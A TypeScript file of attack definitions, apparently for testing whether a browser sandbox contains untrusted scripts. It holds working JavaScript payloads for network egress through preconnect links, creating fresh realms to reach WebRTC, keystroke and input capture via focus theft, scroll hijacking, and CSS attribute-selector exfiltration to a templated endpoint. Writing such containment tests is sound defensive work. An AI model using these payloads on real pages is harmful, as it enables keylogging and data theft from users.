import type { Attack } from "../support/attack.ts";

export const elementGateAttacks: readonly Attack[] = [
  {
    id: "preconnect-variants",
    title: "preconnect through constructor, sink and XML",
    code: String.raw`const X='http://www.w3.org/1999/xhtml';for(const f of [()=>document.createElement('link'),()=>document.createElementNS(X,'link'),()=>new DOMParser().parseFromString('<h:link xmlns:h="'+X+'"/>','text/xml').documentElement,()=>{const d=document.createElement('div');d.innerHTML='<link>';return d.firstChild}]){try{const e=f();e.setAttribute('rel','preconnect');e.setAttribute('href','http://{{TCP}}');document.head.append(e)}catch(x){}}`,
    signs: ["egress"],
  },
  {
    id: "realm-variants",
    title: "a fresh realm with WebRTC made in many ways",
    code: String.raw`const h='<script>console.log("PWNED {{T}} realm "+(typeof RTCPeerConnection))<\/script>';for(const f of [()=>{const i=document.createElement('iframe');i.srcdoc=h;document.body.append(i)},()=>{document.body.insertAdjacentHTML('beforeend','<iframe srcdoc=\''+h+'\'></iframe>')},()=>{const i=document.createElementNS('http://www.w3.org/1999/xhtml','iframe');i.srcdoc=h;document.body.append(i)},()=>{const i=document.createElement('object');i.data='data:text/html,'+encodeURIComponent(h);document.body.append(i)},()=>{const i=document.createElement('iframe');document.body.append(i);if(i.contentWindow.RTCPeerConnection)P('about:blank realm')},()=>{const i=document.createElement('iframe');i.src='javascript:'+h.replace(/<.?script>/g,'');document.body.append(i)},()=>{const w=open('about:blank','_blank');if(w&&w.RTCPeerConnection)P('popup realm')}]){try{f()}catch(e){}}`,
    signs: ["log"],
  },
  {
    id: "focus-other",
    title:
      "focus theft without focus(): validation, labels, selections, dialogs, popovers, fragments, MathML",
    code: String.raw`document.body.innerHTML='<form id=f><input id=i required></form><label id=l for=j>x</label><input id=j><div id=c contenteditable>text</div><dialog id=d><input id=k autofocus></dialog><div id=p popover><input id=m autofocus></div><input id=t tabindex=0>';const $=s=>document.querySelector(s);addEventListener('keydown',e=>P('captured key '+e.key),true);document.addEventListener('input',e=>P('captured '+(e.target.value||e.target.textContent)),true);let n=0;setInterval(()=>{const W=[()=>$('#f').reportValidity(),()=>$('#l').click(),()=>getSelection().setBaseAndExtent($('#c').firstChild,0,$('#c').firstChild,1),()=>{if(!$('#d').open)$('#d').showModal();else $('#d').close()},()=>$('#p').togglePopover(),()=>{const m=document.createElementNS('http://www.w3.org/1998/Math/MathML','math');m.setAttribute('tabindex','0');document.body.append(m);m.focus()},()=>$('#j').select(),()=>$('#j').setSelectionRange(0,0),()=>{if(n<40)location.hash='#t'}];try{W[n++%W.length]()}catch(e){}},25)`,
    signs: ["log"],
    ownTile: true,
    types: true,
  },
  {
    id: "scroll-other",
    title: "scroll hijack without scrollIntoView: validation, dialogs, selection, fragment, find",
    code: String.raw`document.body.innerHTML='<div style="height:1500px"></div><form id=f><input id=i required></form><div id=c contenteditable>text</div><dialog id=d><input autofocus></dialog><a id=t tabindex=0>t</a>';const $=s=>document.querySelector(s);let n=0;setInterval(()=>{const W=[()=>$('#f').reportValidity(),()=>{getSelection().setBaseAndExtent($('#c').firstChild,0,$('#c').firstChild,1)},()=>{if(!$('#d').open)$('#d').showModal();else $('#d').close()},()=>find('text'),()=>$('#i').select(),()=>{if(n<30)location.hash='#t'}];try{W[n++%W.length]()}catch(e){}},40)`,
    signs: [
      {
        host: '(document.scrollingElement.scrollTop>5)||[...document.querySelectorAll("*")].some(e=>e.scrollTop>5&&e.tagName!=="IFRAME")',
      },
    ],
    ownTile: true,
    tall: true,
  },
  {
    id: "scroll-dialog",
    title: "scroll hijack by what a dialog or a popover gives the focus to",
    code: String.raw`document.body.innerHTML='<div style="height:1500px"></div><dialog id=d><input autofocus></dialog><div id=p popover><input autofocus></div>';const d=document.querySelector('#d'),p=document.querySelector('#p');let n=0;setInterval(()=>{try{if(n++%2)p.togglePopover();else if(d.open)d.close();else d.showModal()}catch(e){}},40)`,
    signs: [
      {
        host: '(document.scrollingElement.scrollTop>5)||[...document.querySelectorAll("*")].some(e=>e.scrollTop>5&&e.tagName!=="IFRAME")',
      },
    ],
    ownTile: true,
    tall: true,
  },
  {
    id: "css-exfil-attr",
    title: "CSS attribute selectors that load per value",
    code: String.raw`const s=document.createElement('style');s.textContent='input[value^="s"]{background:url({{E}}/x/{{T}}-s)}';document.head.append(s);document.body.insertAdjacentHTML('beforeend','<input value="secret">')`,
    signs: ["egress"],
  },
];
